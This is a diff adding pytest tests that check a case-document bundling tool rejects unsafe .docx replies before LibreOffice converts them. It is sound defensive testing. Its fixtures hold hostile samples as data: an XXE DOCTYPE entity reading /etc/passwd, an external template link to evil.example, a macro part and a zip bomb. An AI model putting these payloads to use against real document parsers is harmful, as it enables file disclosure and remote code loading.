@@ -192,3 +192,88 @@ def test_password_option_without_encrypt_is_a_usage_error(tmp_path, invoke):
     case = rapid_review_folder(invoke, tmp_path)
     result = invoke("bundle", "rapid-review-meeting", "--case", case, "--password-env", "X")
     assert result.exit_code == 2
+
+
+# --- untrusted .docx parts are checked before LibreOffice opens them ----------------------------------------------
+
+
+def reply_docx(path: Path, *, extra: dict[str, bytes] | None = None, rels: bytes = b"", prolog: bytes = b"") -> Path:
+    """A small agency reply .docx, optionally with extra zip entries, a relationship, or a DOCTYPE prolog."""
+    import zipfile
+
+    from docx import Document
+
+    document = Document()
+    document.add_paragraph("Agency reply")
+    plain = io.BytesIO()
+    document.save(plain)
+    with zipfile.ZipFile(io.BytesIO(plain.getvalue())) as source, zipfile.ZipFile(
+        path, "w", zipfile.ZIP_DEFLATED
+    ) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "word/document.xml" and prolog:
+                data = prolog + data.split(b"?>", 1)[1]
+            if item.filename == "word/_rels/document.xml.rels" and rels:
+                data = data.replace(b"</Relationships>", rels + b"</Relationships>")
+            target.writestr(item.filename, data)
+        for name, data in (extra or {}).items():
+            target.writestr(name, data)
+    return path
+
+
+HOSTILE = {
+    "macros": ({"extra": {"word/vbaProject.bin": b"\x00" * 64}}, "macros"),
+    "bomb": ({"extra": {"word/media/filler.xml": b"\x00" * (30 * 1024 * 1024)}}, "zip bomb"),
+    "doctype": ({"prolog": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'},
+                "DOCTYPE"),
+    "linked-template": ({"rels": b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/'
+                                 b'2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
+                                 b'TargetMode="External"/>'}, "external"),
+}
+
+
+@pytest.fixture
+def soffice_stub(tmp_path, monkeypatch):
+    """A stand-in LibreOffice that writes a 1-page PDF per document and logs every document it is given."""
+    import stat
+    import sys
+
+    good = write_pdf(tmp_path / "stub-good.pdf", 1)
+    log = tmp_path / "stub.log"
+    script = tmp_path / "soffice-stub"
+    script.write_text(
+        f"#!{sys.executable}\n"
+        "import sys\nfrom pathlib import Path\n"
+        "args = sys.argv[1:]\nout = Path(args[args.index('--outdir') + 1])\n"
+        "for doc in args[args.index('--outdir') + 2:]:\n"
+        f"    open({str(log)!r}, 'a').write(doc + '\\n')\n"
+        f"    (out / (Path(doc).stem + '.pdf')).write_bytes(Path({str(good)!r}).read_bytes())\n"
+    )
+    script.chmod(script.stat().st_mode | stat.S_IXUSR)
+    monkeypatch.setenv("CSPR_DOCS_SOFFICE", str(script))
+    return log
+
+
+def test_a_safe_docx_reply_is_converted_into_the_pack(tmp_path, invoke, soffice_stub):
+    case = rapid_review_folder(invoke, tmp_path)
+    reply_docx(case / "replies" / "late-reply.docx", rels=b'<Relationship Id="rIdW" Type="http://schemas.'
+               b'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.org/" '
+               b'TargetMode="External"/>')
+    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", tmp_path / "p.pdf")
+    assert result.exit_code == 0, result.stderr
+    assert len(soffice_stub.read_text().splitlines()) == 1
+    assert [title for title, _ in outline(PdfReader(tmp_path / "p.pdf"))][-1] == "Agency reply: late-reply"
+
+
+@pytest.mark.parametrize("hostile", list(HOSTILE))
+def test_an_unsafe_docx_reply_is_refused_before_libreoffice_opens_it(tmp_path, invoke, soffice_stub, hostile):
+    options, reason = HOSTILE[hostile]
+    case = rapid_review_folder(invoke, tmp_path)
+    reply_docx(case / "replies" / "late-reply.docx", **options)
+    target = tmp_path / "p.pdf"
+    result = invoke("bundle", "rapid-review-meeting", "--case", case, "--out", target)
+    assert result.exit_code == 3, result.stderr
+    assert "late-reply.docx" in result.stderr and reason in result.stderr
+    assert not soffice_stub.exists()
+    assert not target.exists()
